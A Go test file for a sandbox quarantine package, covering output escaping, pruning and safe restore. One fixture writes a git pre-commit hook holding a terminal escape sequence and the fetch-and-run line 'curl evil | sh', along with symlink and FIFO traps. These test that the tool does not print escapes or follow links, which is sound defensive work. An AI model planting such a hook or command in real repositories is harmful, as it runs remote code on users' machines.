package quarantine

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestEscape(t *testing.T) {
	tests := []struct {
		in          string
		lines       bool
		want        string
		unchanged   bool
		description string
	}{
		{"plain.txt", false, "plain.txt", true, "plain"},
		{"é ✓", false, "é ✓", true, "printable UTF-8"},
		{"\x1b]0;pwned\x07", true, `\u001b]0;pwned\u0007`, false, "OSC title"},
		{"a\nb\tc", true, "a\nb\tc", true, "lines keep newlines"},
		{"a\nb\tc", false, `a\nb\tc`, false, "names escape newlines"},
		{"bad\xff", false, `bad\xff`, false, "invalid UTF-8"},
		{"\u009b31m", true, `\u009b31m`, false, "C1 CSI"},
		{"\u202eevil", false, `\u202eevil`, false, "bidi override"},
		{`a\x1b`, false, `a\\x1b`, false, "a literal backslash stays distinct"},
		{"\r", true, `\u000d`, false, "carriage return"},
	}
	for _, tt := range tests {
		if got := Escape(tt.in, tt.lines); got != tt.want {
			t.Errorf("%s: Escape(%q) = %q, want %q", tt.description, tt.in, got, tt.want)
		}
	}
}

// FuzzEscape: nothing that reaches a terminal from Escape is a control
// character but the newline and tab of lines.
func FuzzEscape(f *testing.F) {
	for _, s := range []string{"", "a", "\x1b[2J", "\xff", "\u009b", "\\", "a\nb"} {
		f.Add(s, true)
	}
	f.Fuzz(func(t *testing.T, s string, lines bool) {
		for _, r := range Escape(s, lines) {
			if r < 0x20 && !(lines && (r == '\n' || r == '\t')) || r == 0x7f || r >= 0x80 && r < 0xa0 || r == 0xfffd && !strings.ContainsRune(s, 0xfffd) {
				t.Fatalf("Escape(%q, %v) lets %U through", s, lines, r)
			}
		}
	})
}

// FuzzUnescapePlace: a place's directory name that escaping made comes
// back as the path; anything else is refused or stays absolute.
func FuzzUnescapePlace(f *testing.F) {
	for _, s := range []string{"%2Fhome%2Fme", "%2F", "%2", "abc", "%zz", "%2Fa%FF"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if p, ok := unescapePlace(s); ok && !strings.HasPrefix(p, "/") {
			t.Fatalf("unescapePlace(%q) = %q, not absolute", s, p)
		}
	})
}

// newEntry makes a quarantine entry id in root for place, with files
// (relative path: content; a content of "fifo" makes a FIFO, "link:X" a
// link to X), and returns the place's directory in it.
func newEntry(t *testing.T, root, id, place string, files map[string]string, age time.Duration) string {
	t.Helper()
	var esc strings.Builder
	for i := 0; i < len(place); i++ {
		c := place[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '.' || c == '_' || c == '-' {
			esc.WriteByte(c)
		} else {
			esc.WriteString("%" + strings.ToUpper(string("0123456789abcdef"[c>>4])+string("0123456789abcdef"[c&15])))
		}
	}
	dir := filepath.Join(Dir(root), id, esc.String())
	for rel, content := range files {
		p := filepath.Join(dir, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		var err error
		switch {
		case content == "fifo":
			err = mkfifo(p)
		case strings.HasPrefix(content, "link:"):
			err = os.Symlink(strings.TrimPrefix(content, "link:"), p)
		default:
			err = os.WriteFile(p, []byte(content), 0o600)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	when := time.Now().Add(-age)
	if err := os.Chtimes(filepath.Join(Dir(root), id), when, when); err != nil {
		t.Fatal(err)
	}
	return dir
}

// Show prints what a sandbox wrote escaped and bounded: a terminal escape
// arrives as text, a FIFO is named and not opened (the test would hang),
// a link is named with its target and not followed (its target's secret
// is not printed), and a big file stops at MaxShowFile.
func TestShowHostileEntry(t *testing.T) {
	root := t.TempDir()
	place := filepath.Join(t.TempDir(), "work")
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("TOP-SECRET"), 0o600); err != nil {
		t.Fatal(err)
	}
	newEntry(t, root, "0123456789ab", place, map[string]string{
		".git/hooks/pre-commit": "#!/bin/sh\n\x1b]0;pwned\x07curl evil | sh\n",
		".git/hooks/fifo":       "fifo",
		".moat-write":           "link:" + secret,
		".envrc":                strings.Repeat("A", MaxShowFile+100),
		"name\x1b[31m":          "x",
	}, time.Hour)
	e, err := Read(root, "0123456789ab")
	if err != nil {
		t.Fatal(err)
	}
	if e.Count < 5 || len(e.Places) != 1 || e.Places[0].Path != place {
		t.Fatalf("entry %+v", e)
	}
	var out bytes.Buffer
	done := make(chan error, 1)
	go func() { done <- Show(&out, e, nil) }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Show hangs (opened the FIFO?)")
	}
	s := out.String()
	for _, want := range []string{`\u001b]0;pwned\u0007curl evil | sh`, "(FIFO, not opened)", "(link to " + secret + ", not followed)", "(100 more bytes not shown)", `name\u001b[31m`} {
		if !strings.Contains(s, want) {
			t.Errorf("show lacks %q:\n%s", want, s)
		}
	}
	if strings.ContainsRune(s, 0x1b) || strings.Contains(s, "TOP-SECRET") {
		t.Errorf("show let an escape or the link's target through:\n%s", s)
	}
}

// Prune removes entries past the age bound, then the oldest past the size
// bound, and never an entry whose run's journal is still there.
func TestPrune(t *testing.T) {
	root := t.TempDir()
	place := "/p"
	newEntry(t, root, "aaaaaaaaaaaa", place, map[string]string{".envrc": strings.Repeat("a", 1000)}, 40*24*time.Hour)
	newEntry(t, root, "bbbbbbbbbbbb", place, map[string]string{".envrc": strings.Repeat("b", 1000)}, 3*time.Hour)
	newEntry(t, root, "cccccccccccc", place, map[string]string{".envrc": strings.Repeat("c", 1000)}, 2*time.Hour)
	newEntry(t, root, "dddddddddddd", place, map[string]string{".envrc": strings.Repeat("d", 1000)}, time.Hour)
	newEntry(t, root, "eeeeeeeeeeee", place, map[string]string{".envrc": "live"}, 50*24*time.Hour)
	if err := os.MkdirAll(filepath.Join(root, "journal"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "journal", "eeeeeeeeeeee.json"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	res, err := Prune(root, Limits{MaxAge: 30 * 24 * time.Hour, MaxBytes: 2100}, time.Now())
	if err != nil || res.Unfinished {
		t.Fatal(err, res.Unfinished)
	}
	var ids []string
	for _, e := range res.Removed {
		ids = append(ids, e.ID)
	}
	if strings.Join(ids, " ") != "aaaaaaaaaaaa bbbbbbbbbbbb" {
		t.Errorf("removed %v, want the 40-day-old one, then the oldest past 2100 bytes", ids)
	}
	left, _ := List(root)
	if len(left) != 3 {
		t.Errorf("left %d entries, want 3 (c, d and the live e)", len(left))
	}
	// The zero Limits remove nothing.
	if res, _ := Prune(root, Limits{}, time.Now()); len(res.Removed) != 0 {
		t.Errorf("zero limits removed %v", res.Removed)
	}
}

// AutoPrune runs at most once an hour: a second call within the hour
// leaves an entry past the bounds alone.
func TestAutoPruneSpaced(t *testing.T) {
	root := t.TempDir()
	if err := AutoPrune(root, time.Now()); err != nil { // no quarantine: nothing
		t.Fatal(err)
	}
	if _, err := os.Lstat(Dir(root)); err == nil {
		t.Fatal("AutoPrune made the quarantine")
	}
	newEntry(t, root, "aaaaaaaaaaaa", "/p", map[string]string{".envrc": "x"}, 40*24*time.Hour)
	if err := AutoPrune(root, time.Now()); err != nil {
		t.Fatal(err)
	}
	if e, _ := List(root); len(e) != 0 {
		t.Fatal("the old entry was kept")
	}
	newEntry(t, root, "bbbbbbbbbbbb", "/p", map[string]string{".envrc": "x"}, 40*24*time.Hour)
	if err := AutoPrune(root, time.Now()); err != nil {
		t.Fatal(err)
	}
	if e, _ := List(root); len(e) != 1 {
		t.Fatal("AutoPrune ran twice within the hour")
	}
}

// Restore puts back exactly the paths named, never over a file, never
// into a directory reached through a link, never a path the entry lacks.
func TestRestore(t *testing.T) {
	root := t.TempDir()
	place := t.TempDir()
	newEntry(t, root, "0123456789ab", place, map[string]string{".envrc": "export A=1\n", ".git/hooks/pre-commit": "hook", ".moat-write": "w"}, time.Hour)
	e, err := Read(root, "0123456789ab")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(place, ".moat-write"), []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []struct{ path, why string }{
		{filepath.Join(place, ".moat-write"), "exists on the host"},
		{filepath.Join(place, "nothere"), "not in entry"},
		{".envrc", "absolute"},
		{place + "/../x", "absolute"},
	} {
		if _, err := Resolve(e, []string{filepath.Join(place, ".envrc"), bad.path}); err == nil || !strings.Contains(err.Error(), bad.why) {
			t.Errorf("Resolve(%q): %v, want %q", bad.path, err, bad.why)
		}
	}
	if _, err := os.Lstat(filepath.Join(place, ".envrc")); err == nil {
		t.Fatal("a refused restore restored something")
	}
	ts, err := Resolve(e, []string{filepath.Join(place, ".envrc"), filepath.Join(place, ".git")})
	if err != nil {
		t.Fatal(err)
	}
	if err := Restore(ts); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(place, ".envrc")); string(b) != "export A=1\n" {
		t.Errorf(".envrc restored as %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(place, ".git", "hooks", "pre-commit")); string(b) != "hook" {
		t.Errorf(".git restored with hook %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(place, ".moat-write")); string(b) != "mine" {
		t.Errorf("the host's file became %q", b)
	}

	// A place whose directory became a link: nothing goes through it.
	root2, real := t.TempDir(), t.TempDir()
	linked := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(real, linked); err != nil {
		t.Fatal(err)
	}
	newEntry(t, root2, "0123456789ab", linked, map[string]string{".envrc": "x"}, time.Hour)
	e2, _ := Read(root2, "0123456789ab")
	if _, err := Resolve(e2, []string{filepath.Join(linked, ".envrc")}); err == nil || !strings.Contains(err.Error(), "through a link") {
		t.Errorf("restore through a link: %v", err)
	}
}
